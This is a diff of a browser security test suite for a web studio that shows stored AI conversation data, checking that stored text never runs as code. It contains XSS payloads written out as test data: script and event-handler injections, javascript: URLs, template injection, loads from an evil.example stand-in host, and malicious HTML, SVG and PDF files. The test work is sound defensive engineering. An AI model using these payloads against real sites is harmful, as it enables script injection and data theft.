@@ -1,157 +1,201 @@
+import { readFileSync } from 'node:fs'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { openStorage } from 'holdfast'
-import { startStudio } from 'holdfast/studio'
+import { startStudio, studioHandler } from 'holdfast/studio'
 import type { Page } from 'playwright-core'
 import { expect, it, onTestFinished } from 'vitest'
+import { serve } from '../../src/studio/node-bridge.ts'
 import { quiet } from '../setup/silent.ts'
-import { browserOfFile } from './browser.ts'
+import { ATTACKS, EVERY, sessionIdOf, storeAttacks } from './attacks.ts'
+import { browserOfFile, settled } from './browser.ts'
 import { png } from './filled.ts'
 
 const browser = browserOfFile()
 
-/** Texts that run something if they are taken for markup, for a url or for code. Each would set `attacked`. */
-const ATTACKS = [
-  '<script>attacked=1</script>',
-  '<img src=x onerror=attacked=1>',
-  '"><svg onload=attacked=1>',
-  "'-attacked=1-'",
-  'javascript:attacked=1',
-  '</script><script>attacked=1</script>',
-  '<iframe srcdoc="<script>parent.attacked=1</script>">',
-  '<a href="javascript:attacked=1" id=attack>x</a>',
-  '<style>@import "http://evil.example/x.css";</style>',
-  '<base href="http://evil.example/">',
-  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
-  '<link rel=stylesheet href=http://evil.example/x.css>',
-  '<form action=http://evil.example><input name=attack autofocus onfocus=attacked=1>',
-  '<math><mtext></table><img src onerror=attacked=1>',
-  '{{constructor.constructor("attacked=1")()}}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker would store
-  '${attacked=1}',
-  '<img src="http://evil.example/pixel.png">',
-  '![x](http://evil.example/pixel.png)',
-  '\u202e<b onclick=attacked=1>\u2066',
-  '<object data="data:text/html,<script>attacked=1</script>">',
-  '#token=stolen',
-  '__proto__',
+/** Names the JSON that is folded under a label. */
+const folded = (label: string) => `folded ${label}`
+
+/** A tag has at most 50 characters. */
+const TAGS = 'a .badge'
+
+/** The lists, each with the places that must show every attack. */
+const LISTS: readonly [address: string, places: readonly string[]][] = [
+  ['#/', []],
+  ['#/sessions', ['.title', '.id']],
+  ['#/search?q=word', ['.text', 'li .facts']],
+  ['#/search?q=word&in=sessions', ['.title', '.text']],
+  ['#/search?q=word&in=memories', ['.text']],
+  ['#/memories', ['.text', TAGS, folded('Metadata')]],
+  ['#/queues', ['.title', 'pre']],
+  ['#/approvals', ['.title', folded('Request')]],
+  ['#/approvals?status=responded', ['.title', '.badge', folded('Request'), folded('Data of the answer')]],
+  [
+    '#/executions',
+    ['.title', ...['Input', 'Output', 'Error', 'Reason', 'Identity'].map(folded)], // the outcomes take turns
+  ],
+  ['#/blobs', ['.blob bdi', '.facts > span:nth-child(3) bdi', folded('SHA-256 and metadata')]],
+  ['#/configuration', []],
 ]
-const all = ATTACKS.join(' ')
+
+/** The same in a conversation, for the attack that it holds. */
+const CONVERSATION = [
+  'h1',
+  'header .id',
+  folded('Metadata'),
+  '.message:first-child strong',
+  '.message:first-child .text',
+  '.message:nth-child(2) summary',
+  '.message:nth-child(3) summary',
+  '.message:nth-child(3) details pre',
+  '.message:nth-child(4) summary',
+  '.message:nth-child(4) details pre',
+  '.message:nth-child(5) details .text',
+  '.message:nth-child(6) details .text',
+  '.message:nth-child(6) .content > .text',
+  '.message > pre',
+  '.tree li li',
+]
 
 it('nothing that a model or a user has written runs, loads or is taken for markup, on any page', async () => {
   const storage = await openStorage({ database: { type: 'in-memory', options: { search: true } } }, quiet)
   onTestFinished(() => storage.close())
-  for (const [i, attack] of ATTACKS.entries()) {
-    const id = `${attack} ${i}`.slice(0, 200)
-    const owner = storage.scope({ ownerId: attack })
-    await owner.sessions.create({ id, title: attack, metadata: { [attack]: { [attack]: attack } } })
-    await owner.messages.append(id, [
-      { id: attack, role: attack.slice(0, 100), content: `${attack} word`, metadata: { [attack]: attack } },
-      { role: 'user', content: [{ type: attack, text: attack, [attack]: attack }] },
-      {
-        role: 'assistant',
-        content: [{ type: 'tool-call', toolName: attack, name: attack, input: { [attack]: attack } }],
-      },
-      {
-        role: 'assistant',
-        content: [
-          { type: 'reasoning', text: attack },
-          { type: 'text', text: attack },
-        ],
-      },
-      { role: 'tool', content: attack },
-      {
-        role: 'user',
-        content: [
-          {
-            type: 'image',
-            image: `data:image/svg+xml;base64,${Buffer.from(`<svg onload="attacked=1"/>`).toString('base64')}`,
-          },
-          { type: 'image_url', image_url: { url: 'http://evil.example/pixel.png' } },
-          { type: 'image', image: `data:image/png;base64,${Buffer.from(attack).toString('base64')}` },
-          { type: 'file', url: `data:text/html,${attack}` },
-        ],
-      },
-    ])
-    await owner.sessions.fork(id, { id: `fork ${id}`, title: attack })
-    await owner.memories.create({
-      content: `${attack} word`,
-      tags: [attack.replace(/\p{Cc}/gu, '').slice(0, 50)],
-      metadata: { [attack]: attack },
-    })
-    await owner.events.append({ type: attack, sessionId: id, runId: attack, payload: { [attack]: attack } })
-    await owner.queues.push(id, attack, { id: attack, [attack]: attack })
-    await owner.approvals.request({ sessionId: id, type: attack, request: { [attack]: attack } })
-    const identity = { runId: attack, turnId: attack, modelStepId: attack, toolCallId: attack }
-    const { record } = await owner.toolExecutions.start({ identity, toolName: attack, input: { [attack]: attack } })
-    if (i % 2 === 0) await owner.toolExecutions.fail(record.executionId, { [attack]: attack })
-    await owner.blobs.put(Buffer.from(`<script>attacked=1</script>${attack}`), {
-      name: attack,
-      source: attack,
-      mimeType: ['text/html', 'image/svg+xml', 'image/png'][i % 3] ?? '',
-      metadata: { [attack]: attack },
-    })
-  }
+  await storeAttacks(storage)
   const studio = await startStudio(storage, { write: true })
   onTestFinished(() => studio.close())
   const page = await browser.open(studio.url)
-  const addresses = [
-    '#/',
-    '#/sessions',
-    '#/search?q=word',
-    '#/search?q=word&in=sessions',
-    '#/search?q=word&in=memories',
-    '#/memories',
-    '#/events',
-    '#/queues',
-    '#/approvals',
-    '#/executions',
-    '#/blobs',
-    '#/configuration',
-    `#/${encodeURIComponent(all)}`,
-  ]
-  for (const address of addresses) {
-    await page.goto(new URL(address, studio.url).href)
-    await checked(page)
+  await page.locator('h1').waitFor()
+  for (const [address, places] of LISTS) {
+    await visit(page, address)
+    const shown = places.map(() => '')
+    for (;;) {
+      await checked(page)
+      for (const [n, text] of (await textsOf(page, places)).entries()) shown[n] += text
+      const next = page.getByRole('button', { name: 'Next', disabled: false })
+      if ((await next.count()) === 0) break
+      await next.click()
+    }
+    for (const [n, place] of places.entries()) {
+      const text = shown[n] ?? ''
+      const wanted = place === TAGS ? ATTACKS.map((attack) => attack.slice(0, 50)) : ATTACKS
+      expect({ address, place, lacks: wanted.filter((attack) => !shows(text, attack)) }).toMatchObject({ lacks: [] })
+    }
   }
-  for (const attack of [...ATTACKS.keys()].filter((i) => i % 9 === 0)) {
-    const id = `${ATTACKS[attack]} ${attack}`.slice(0, 200)
-    const address = `#/session?${new URLSearchParams({ id })}`
-    await page.goto(new URL(address, studio.url).href)
-    await page.locator('.message').first().waitFor()
-    await checked(page)
-    expect(await page.locator('h1').innerText()).toContain(
-      ATTACKS[attack]?.replace(/[\u202e\u2066]/g, '').slice(0, 4) ?? '',
-    )
+
+  await visit(page, '#/events')
+  await checked(page)
+  const came = await storage.events.append(
+    ATTACKS.map((type) => ({ type, sessionId: type, runId: type, payload: EVERY })),
+  )
+  await page.locator('.rows > li:first-child', { hasText: `#${came.at(-1)?.seq}` }).waitFor()
+  await checked(page)
+  for (const text of await textsOf(page, ['strong', folded('Payload')])) {
+    expect(ATTACKS.filter((attack) => !shows(text, attack))).toEqual([])
   }
+
+  for (const [i, attack] of ATTACKS.entries()) {
+    await visit(page, `#/session?${new URLSearchParams({ id: sessionIdOf(i) })}`)
+    await page.locator('.message').nth(6).waitFor()
+    await checked(page)
+    const texts = await textsOf(page, CONVERSATION)
+    expect(CONVERSATION.filter((_, n) => !shows(texts[n] ?? '', attack))).toEqual([])
+  }
+  await checkParameters(page)
 })
+
+/** Opens the pages that repeat what is in their address, and the field that repeats the owner. */
+async function checkParameters(page: Page): Promise<void> {
+  for (const address of [
+    '#/',
+    '#/search?q=',
+    '#/search?session=',
+    '#/memories?tag=',
+    '#/memories?id=',
+    '#/events?type=',
+    '#/events?session=',
+    '#/events?run=',
+    '#/queues?session=',
+    '#/approvals?session=',
+    '#/approvals?status=',
+    '#/executions?run=',
+    '#/executions?status=',
+    '#/sessions?orderBy=',
+    '#/session?id=',
+  ]) {
+    await visit(page, `${address}${encodeURIComponent(ATTACKS.join(' '))}`)
+    await checked(page)
+  }
+  await page.getByLabel('Owner').fill(ATTACKS[2] ?? '')
+  await page.getByRole('button', { name: 'Filter' }).click()
+  await visit(page, '#/sessions')
+  await checked(page)
+  expect(await page.locator('.rows .title').count()).toBe(2)
+}
+
+/** Returns what the document has at each place, also if it is folded. */
+function textsOf(page: Page, places: readonly string[]): Promise<string[]> {
+  return page.evaluate(`${JSON.stringify(places)}.map((place) => {
+    const [, label] = /^folded (.*)/.exec(place) ?? []
+    const isLabelled = (pre) => label === undefined || pre.previousElementSibling.textContent === label
+    const found = document.querySelectorAll('main ' + (label === undefined ? place : 'details > summary + pre'))
+    return [...found].filter(isLabelled).map(({ textContent }) => textContent).join('\\n')
+  })`)
+}
+
+/** Returns true if a text has an attack as it was stored, or as JSON writes it. */
+function shows(text: string, attack: string): boolean {
+  return text.includes(attack) || text.includes(JSON.stringify(attack))
+}
+
+/** Goes to another page of Studio in the same document, where nothing that ran before is forgotten. */
+async function visit(page: Page, address: string): Promise<void> {
+  await page.evaluate(`
+    document.querySelector('main').replaceChildren()
+    history.replaceState(null, '', ${JSON.stringify(address)})
+    dispatchEvent(new HashChangeEvent('hashchange'))
+  `)
+}
 
 /** Unfolds and presses what there is, and looks at what became of it. */
 async function checked(page: Page): Promise<void> {
-  await page.locator('h1').first().waitFor()
-  await page.locator('main [aria-busy]').waitFor({ state: 'detached' })
+  await settled(page)
   await page.evaluate(`
     for (const details of document.querySelectorAll('details')) details.open = true
-    for (const raw of document.querySelectorAll('main button')) if (/JSON|Show|Copy/.test(raw.textContent)) raw.click()
+    for (const raw of document.querySelectorAll('main button[type=button]')) if (/JSON|Show|Copy/.test(raw.textContent)) raw.click()
+    new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))
   `)
-  await page.waitForTimeout(50)
+  await settled(page)
   const found = await page.evaluate(`({
     attacked: 'attacked' in globalThis,
     prototype: Object.keys(Object.prototype),
-    elements: Array.from(document.querySelectorAll('main :is(${MARKUP})'), (element) => element.outerHTML),
+    scripts: document.scripts.length,
+    elements: Array.from(document.querySelectorAll('body :is(${MARKUP}):not(body > *)'), (element) => element.outerHTML),
     links: Array.from(document.querySelectorAll('a'), (link) => link.getAttribute('href')).filter((href) => !href.startsWith('#')),
     images: Array.from(document.querySelectorAll('main img'), (image) => image.getAttribute('src')).filter((src) => !src.startsWith('blob:')),
     token: location.hash.includes('token='),
   })`)
-  expect(found).toEqual({ attacked: false, prototype: [], elements: [], links: [], images: [], token: false })
+  expect(found).toEqual({
+    attacked: false,
+    prototype: [],
+    scripts: 1,
+    elements: [],
+    links: [],
+    images: [],
+    token: false,
+  })
 }
 
 /** Elements and attributes that no page of Studio has. */
 const MARKUP =
-  'script, iframe, object, embed, base, meta, link, style, math, b, [onerror], [onload], [onclick], #attack'
+  'script, iframe, object, embed, base, meta, link, style, math, b, [onerror], [onload], [onclick], [onfocus], #attack'
 
 it('the same texts run in a page that takes them for markup', async () => {
   const page = await browser.open('about:blank')
-  await page.setContent(ATTACKS[1] ?? '')
-  await expect.poll(() => page.evaluate(`'attacked' in globalThis`)).toBe(true)
+  for (const i of [0, 1, 2, 5, 6, 12, 13]) {
+    await page.setContent(`<!doctype html>${ATTACKS[i]}`)
+    await expect.poll(() => page.evaluate(`'attacked' in globalThis`)).toBe(true)
+    await page.evaluate('delete globalThis.attacked')
+  }
 })
 
 it('Trusted Types refuse markup from a string, which a page without them would run', async () => {
@@ -207,4 +251,61 @@ it('an image is shown, and a blob that says it is an image and is none says so',
   const saving = page.waitForEvent('download')
   await page.getByRole('button', { name: /^Save/ }).first().click()
   expect((await saving).suggestedFilename()).toMatch(/\.png$/)
+})
+
+/** Each would set `attacked` in the page that opens it. */
+const DOCUMENTS = {
+  'page.html': ['text/html', '<script>attacked=1</script>'],
+  'page.xhtml': [
+    'application/xhtml+xml',
+    '<html xmlns="http://www.w3.org/1999/xhtml"><script>attacked=1</script></html>',
+  ],
+  'logo.svg': ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>attacked=1</script></svg>'],
+  'ticket.pdf': ['application/pdf', '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'],
+  'program.js': ['text/javascript', 'attacked=1'],
+} as const
+
+it('SVG, HTML and PDF are saved as they were stored, and neither opened nor run', async () => {
+  const storage = await openStorage({}, quiet)
+  onTestFinished(() => storage.close())
+  const ids = new Map<string, string>()
+  for (const [name, [mimeType, text]] of Object.entries(DOCUMENTS)) {
+    ids.set(name, (await storage.blobs.put(Buffer.from(text), { name, mimeType })).id)
+  }
+  const studio = await startStudio(storage)
+  onTestFinished(() => studio.close())
+  const page = await browser.open(studio.url)
+  await visit(page, '#/blobs')
+  const address = page.url()
+  for (const [name, [, text]] of Object.entries(DOCUMENTS)) {
+    const saving = page.waitForEvent('download')
+    await page.locator('.blob', { hasText: name }).getByRole('button', { name: /^Save/ }).click()
+    const download = await saving
+    expect(download.suggestedFilename()).toBe(name)
+    expect(readFileSync(await download.path(), 'utf8')).toBe(text)
+  }
+  expect(await page.evaluate(`'attacked' in globalThis`)).toBe(false)
+  const open = { url: page.url(), pages: page.context().pages().length, frames: page.frames().length }
+  expect(open).toEqual({ url: address, pages: 1, frames: 1 })
+
+  // Behind a login with a cookie, the address of the bytes can be opened by itself.
+  const handle = studioHandler(storage, { authorize: () => true })
+  const server = createServer((request, response) => void serve(handle, request, response))
+  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
+  onTestFinished(() => void server.close())
+  for (const id of ids.values()) {
+    const saving = page.waitForEvent('download')
+    const bytes = `http://127.0.0.1:${(server.address() as AddressInfo).port}/api/blob/bytes?id=${id}` // it listens on TCP
+    await expect(page.goto(bytes)).rejects.toThrow('Download is starting')
+    await (await saving).cancel()
+  }
+  expect(page.url()).toBe(address)
+})
+
+it('the same document runs from a server that says what it is', async () => {
+  const page = await browser.open('about:blank')
+  const [contentType, body] = DOCUMENTS['page.html']
+  await page.route('**/page.html', (route) => route.fulfill({ contentType, body }))
+  await page.goto('http://127.0.0.1/page.html')
+  expect(await page.evaluate(`'attacked' in globalThis`)).toBe(true)
 })
